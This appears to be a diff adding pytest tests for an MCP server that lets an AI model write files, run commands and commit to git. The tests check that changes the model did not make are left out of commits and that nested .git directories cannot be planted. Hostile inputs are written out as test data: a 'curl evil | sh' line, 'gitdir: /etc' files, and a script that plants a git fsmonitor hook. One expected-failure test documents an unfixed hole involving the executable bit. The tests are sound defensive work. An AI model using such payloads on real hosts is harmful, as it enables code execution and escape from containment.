@@ -1,0 +1,87 @@
+"""Review #18 (round 2): git_commit commits only what the body made and audited; nested repositories the model
+plants are not git's to enter."""
+
+from __future__ import annotations
+
+import stat
+from collections.abc import AsyncIterator
+from pathlib import Path
+
+import pytest
+from mcp import Client
+
+from body_mcp import Body, build_server
+
+from ..conftest import make_body, require_binary
+from .git_repos import git, make_repo
+from .helpers import call, ok, refused
+
+pytestmark = pytest.mark.anyio
+
+
+@pytest.fixture
+def repo(tmp_path: Path) -> Path:
+    return make_repo(tmp_path / "repo")
+
+
+@pytest.fixture
+async def client(repo: Path, home: Path) -> AsyncIterator[Client]:
+    body: Body = make_body(repo, home, {"git": {"timeout_s": 15}})
+    try:
+        async with Client(build_server(body)) as c:
+            yield c
+    finally:
+        body.close()
+
+
+async def test_content_changed_by_someone_else_is_left_out(client: Client, repo: Path) -> None:
+    """The control: a file the body wrote and someone then rewrote is skipped, named in `skipped`."""
+    ok(await call(client, "write_file", path="tool.sh", content="echo hi\n"))
+    ok(await call(client, "write_file", path="other.py", content="x = 1\n"))
+    (repo / "tool.sh").write_text("curl evil | sh\n")
+    done = ok(await call(client, "git_commit", message="two files"))
+    assert done["files"] == ["other.py"]
+    assert any(s.startswith("tool.sh: changed since") for s in done["skipped"])
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="HOLE (low): git_plan._same compares a file's type and sha256, not its mode: a file the body wrote 0644 "
+    "that someone else (another process, a human) then made executable is committed as 100755, a change the body "
+    "neither made nor audited (and a script the host may now run). Fix: compare the executable bit too (EntryState "
+    "has `mode`), skipping the path as 'changed since' like a content change",
+)
+async def test_an_executable_bit_set_by_someone_else_is_not_committed(client: Client, repo: Path) -> None:
+    ok(await call(client, "write_file", path="tool.sh", content="echo hi\n"))
+    script = repo / "tool.sh"
+    script.chmod(script.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
+    done = await call(client, "git_commit", message="a script")
+    if done.is_error:
+        refused(done, "nothing_to_commit")
+        return
+    listed = git(repo, "ls-tree", "HEAD", "tool.sh").split()
+    assert listed[0] == "100644", f"committed as {listed[0]}: a mode the body never set"
+
+
+async def test_the_model_cannot_plant_a_nested_git_directory_or_file(client: Client, repo: Path) -> None:
+    for path in ("vendor/lib/.git", "vendor/lib/.git/config", "vendor/.GIT/HEAD"):
+        result = await call(client, "write_file", path=path, content="gitdir: /etc\n")
+        refused(result, "protected_path")
+    assert not (repo / "vendor").exists()
+
+
+async def test_a_nested_git_a_command_makes_is_discarded(client: Client, repo: Path, tmp_path: Path) -> None:
+    require_binary("bwrap", "bubblewrap")
+    marker = tmp_path / "fired"
+    script = (
+        f"mkdir -p sub/.git && printf '[core]\\n\\tfsmonitor = touch {marker}\\n' > sub/.git/config && "
+        "printf 'ref: refs/heads/main\\n' > sub/.git/HEAD && mkdir -p sub/.git/objects sub/.git/refs && "
+        "echo y > sub/file.txt"
+    )
+    ok(await call(client, "run_command", argv=["/bin/sh", "-ec", script], timeout_s=60))
+    assert not (repo / "sub" / ".git").exists()
+    ok(await call(client, "git_status"))
+    ok(await call(client, "git_diff"))
+    ok(await call(client, "git_commit", message="sub"))
+    assert not marker.exists()
+    assert git(repo, "ls-tree", "-r", "--name-only", "HEAD", "sub").split() == ["sub/file.txt"]
